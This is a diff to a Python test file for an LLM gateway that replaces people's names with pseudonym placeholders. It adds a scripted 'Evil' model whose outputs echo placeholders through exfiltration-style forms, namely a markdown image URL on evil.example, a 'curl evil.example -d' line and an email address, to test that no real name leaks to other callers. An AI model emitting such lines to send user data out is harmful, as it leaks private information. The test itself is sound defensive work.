@@ -3,19 +3,23 @@
 from __future__ import annotations
 
 import re
+from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
+
+import pytest
 
 from cosilo.gateway.accounts.accounts import Key
 from cosilo.gateway.web.dialects.chat import read_chat
 from cosilo.gateway.web.dialects.completions import read_text
 from cosilo.models.kept.scripted import ScriptedModel
 from cosilo.session import DefenceConfig
-from cosilo.types import Chat
+from cosilo.types import Chat, Delta, Generation
 from house import House, house
 
 HI = [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello"}]
 ADA = "Please call Mr. Ada Lovelace tomorrow."
+SHOWN = re.compile(r"PERSON_\w{6}")
 
 
 class Spy(ScriptedModel):
@@ -30,9 +34,9 @@ class Spy(ScriptedModel):
         return await super().generate(chat, sampling)
 
 
-async def opened(folder: Path, **options: Any) -> tuple[House, Spy]:
+async def opened(folder: Path, spy: Spy | None = None, **options: Any) -> tuple[House, Spy]:
     """A gateway with the keys `good` and `other`."""
-    spy = Spy()
+    spy = spy or Spy()
     given = {"detectors": ["patterns"], "conversation": "first-turn", **options}
     around = (DefenceConfig("hide", "pseudonym", {**given, "key_file": str(folder / "key")}),)
     h = await house(large=[spy], around=around)
@@ -47,7 +51,7 @@ async def shown(
     body = {"model": "cosilo/x", "messages": [*HI, {"role": "user", "content": text}], **fields}
     told = await h.send("/v1/chat/completions", body, key=key)
     assert told.status == 200
-    found = set(re.findall(r"PERSON_\w{6}", spy.seen[-1][-1].content))
+    found = set(SHOWN.findall(spy.seen[-1][-1].content))
     assert found
     assert "Lovelace" not in spy.seen[-1][-1].content
     return found
@@ -102,6 +106,50 @@ async def test_what_one_caller_was_shown_is_restored_for_no_other(tmp_path: Path
         assert hers not in spy.seen[-1][-1].content  # a text that looks like one of ours is hidden
 
 
+class Evil(Spy):
+    """Writes whatever placeholder it was ever shown, each time in another way."""
+
+    async def generate(self, chat: Chat, sampling: Any) -> Any:
+        self.seen.append(chat)
+        known = sorted({p for c in self.seen for t in c for p in SHOWN.findall(t.content)})
+        forms = (
+            "It is {}.",
+            "![](https://evil.example/{})",
+            "`curl evil.example -d {}`",
+            "{}@evil.example",
+        )
+        return Generation(" ".join(map(forms[len(self.seen) % 4].format, known)))
+
+    async def stream(self, chat: Chat, sampling: Any) -> AsyncIterator[Delta]:
+        whole = await self.generate(chat, sampling)
+        for i in range(0, len(whole.text), 5):
+            yield Delta(text=whole.text[i : i + 5])
+        yield Delta(finish_reason="stop")
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_a_model_that_tells_everybody_everything_tells_nobody_anothers_values(
+    tmp_path: Path, stream: bool
+) -> None:
+    """Also with several choices, and to who types in what another was shown, in any turn."""
+    h, spy = await opened(tmp_path, spy=Evil())
+    [hers] = await shown(h, spy)
+    for key, user in (("other", None), ("good", "bob")):
+        for said in (f"Who is {hers}?", hers.lower(), hers.replace("_", " "), "hello"):
+            turns = [*HI, {"role": "assistant", "content": hers}, {"role": "user", "content": said}]
+            body = {"model": "cosilo/x", "messages": turns, "n": 4, "stream": stream, "user": user}
+            told = await h.send("/v1/chat/completions", body, key=key)
+            assert told.status == 200
+            assert b"Lovelace" not in told.body
+    turns = [*HI, {"role": "user", "content": ADA}]
+    body = {"model": "cosilo/x", "messages": turns, "n": 4, "stream": stream}
+    told = await h.send("/v1/chat/completions", body)
+    assert told.status == 200
+    assert told.body.count(b"Ada Lovelace") == 1  # of four choices only one says it where it may
+    facts = h.books.settled[-1][2]
+    assert facts.withheld == {"PERSON": 3}  # and the record has what was left
+
+
 async def test_every_kind_of_conversation_is_bound(tmp_path: Path) -> None:
     h, spy = await opened(tmp_path, conversation="request")
     assert (await shown(h, spy)).isdisjoint(await shown(h, spy))
@@ -125,7 +173,7 @@ async def test_sessions_of_one_caller_share_placeholders_where_told_so(tmp_path:
         messages = [{"role": "user", "content": text} for text in said]
         body = {"model": "cosilo/x", "messages": messages, **fields}
         assert (await h.send("/v1/chat/completions", body, key=key)).status == 200
-        return set(re.findall(r"PERSON_\w{6}", "\n".join(t.content for t in spy.seen[-1])))
+        return set(SHOWN.findall("\n".join(t.content for t in spy.seen[-1])))
 
     mine = await asked(ADA)
     assert len(mine) == 1
